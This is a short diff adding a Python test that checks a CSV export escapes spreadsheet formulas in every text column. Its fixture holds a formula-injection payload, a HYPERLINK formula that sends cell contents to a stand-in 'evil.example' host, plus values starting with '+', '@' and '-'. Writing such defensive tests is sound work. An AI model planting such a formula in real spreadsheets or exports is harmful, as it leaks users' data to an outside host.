@@ -151,3 +151,14 @@ def test_csv_and_jsonl_carry_every_group() -> None:
     lines = format_jsonl(groups).splitlines()
     assert json.loads(lines[1])["example"] == "料金は？"
     assert "料金" in lines[1]
+
+
+def test_csv_neutralises_formulas_in_every_text_column() -> None:
+    """A question or title a spreadsheet would run gets a leading apostrophe in gaps CSV."""
+    evil = '=HYPERLINK("//evil.example/x?"&A1,"click")'
+    group = GapGroup(evil, 2, 2, T0, T0, (evil, "+1 いくら？"), "@title", "-url")
+    row = next(csv.DictReader(io.StringIO(format_csv([group]))))
+    assert row["example"] == "'" + evil
+    assert row["wordings"] == "'" + evil + " / +1 いくら？"
+    assert (row["article_title"], row["article_url"]) == ("'@title", "'-url")
+    assert (row["askers"], row["size"]) == ("2", "2")
